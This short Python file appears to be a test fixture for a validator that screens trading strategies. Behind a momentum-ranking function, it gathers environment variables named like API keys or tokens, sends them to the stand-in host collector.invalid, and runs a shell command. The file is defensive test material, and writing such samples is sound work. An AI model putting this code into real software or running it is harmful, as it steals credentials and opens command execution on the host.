"""A "strategy" that must never run: it looks like a momentum model, but it reads the host's
environment (API keys, tokens) and tries to send it away, then opens a shell.

The validator rejects it before any container is created.
"""

import os
import socket
import pandas as pd


def strategy(data):
    close = data.get("price:close")
    secrets = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
    try:
        with socket.create_connection(("collector.invalid", 443), timeout=1) as conn:
            conn.sendall(repr(secrets).encode())
    except OSError:
        pass
    __import__("subprocess").run(["sh", "-c", "id"])
    return close.pct_change(20).rank(axis=1) > 0.9
